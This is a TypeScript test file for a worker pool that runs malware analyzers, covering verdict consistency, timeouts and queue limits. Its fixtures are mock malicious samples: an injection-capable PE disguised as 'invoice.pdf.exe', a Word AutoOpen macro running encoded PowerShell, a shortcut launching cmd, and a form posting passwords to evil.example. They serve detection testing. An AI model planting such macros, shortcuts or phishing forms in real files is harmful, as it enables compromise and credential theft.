/**
 * The analyzers in worker threads: the same verdicts as on the calling thread, a deadline per
 * file that replaces the worker, a bounded queue, and a close that lets files finish. Every
 * failure is an EngineError (the profile's on-error), never a benign verdict.
 */

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyze } from '../../../src/inspect/engines/analysis/analyze.ts';
import { AnalysisPool } from '../../../src/inspect/engines/analysis/pool.ts';
import type { AnalyzerInput } from '../../../src/inspect/engines/analysis/types.ts';
import { EngineError } from '../../../src/errors.ts';
import { lnk, oleWithMacro, peFile } from '../../helpers/analysis-fixtures.ts';

const samples: AnalyzerInput[] = [
  { bytes: peFile({ imports: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'], sections: ['UPX0', 'UPX1'], random: true }), detectedType: 'exe', name: 'invoice.pdf.exe', flags: [] },
  { bytes: peFile(), detectedType: 'exe', name: 'setup.exe', flags: [] },
  { bytes: oleWithMacro('Sub AutoOpen()\n  Shell "powershell -enc AAAA"\nEnd Sub\n'), detectedType: 'doc', name: 'a.doc', flags: [] },
  { bytes: lnk('C:\\Windows\\System32\\cmd.exe', '/c calc'), detectedType: 'lnk', name: 'a.lnk', flags: [] },
  { bytes: Buffer.from('<form action="https://evil.example/x"><input type="password"></form>'), detectedType: 'html', name: 'a.html', flags: [] },
];

describe('analysis worker pool', () => {
  it('gives the same verdicts as the analyzers on the calling thread, for files in parallel', async () => {
    const pool = new AnalysisPool({ threads: 2, queue: 100, timeoutMs: 30_000 });
    try {
      const inWorkers = await Promise.all([...samples, ...samples].map((s) => pool.run(s)));
      assert.deepEqual(inWorkers, [...samples, ...samples].map((s) => analyze(s)));
      assert.ok(inWorkers.some((v) => v.verdict === 'malicious') && inWorkers.some((v) => v.verdict === 'benign'));
      // The caller's bytes are untouched (the worker got a copy of its own).
      assert.equal(samples[0]!.bytes.subarray(0, 2).toString('latin1'), 'MZ');
      assert.equal(pool.pending, 0);
    } finally {
      await pool.close();
    }
  });

  it('a file past the deadline fails with EngineError and its worker is replaced', async () => {
    // 1 ms is less than a worker takes to start: the first file always misses it.
    const pool = new AnalysisPool({ threads: 1, queue: 10, timeoutMs: 1 });
    try {
      await assert.rejects(pool.run(samples[0]!), (e: unknown) => e instanceof EngineError && /took longer than 1 ms/.test(e.message));
      await assert.rejects(pool.run(samples[2]!), EngineError); // a fresh worker, same deadline
      assert.equal(pool.pending, 0);
    } finally {
      await pool.close();
    }
  });

  it('refuses files beyond the queue, and close() lets the accepted ones finish', async () => {
    const pool = new AnalysisPool({ threads: 1, queue: 2, timeoutMs: 30_000 });
    const first = pool.run(samples[0]!); // to the worker
    const queued = [pool.run(samples[2]!), pool.run(samples[3]!)]; // waiting
    await assert.rejects(pool.run(samples[4]!), (e: unknown) => e instanceof EngineError && /queue full \(2 files waiting\)/.test(e.message));
    const closing = pool.close();
    await assert.rejects(pool.run(samples[4]!), /analysis pool closed/);
    assert.deepEqual((await Promise.all([first, ...queued])).map((v) => v.verdict), ['malicious', 'malicious', 'malicious']);
    await closing;
  });
});
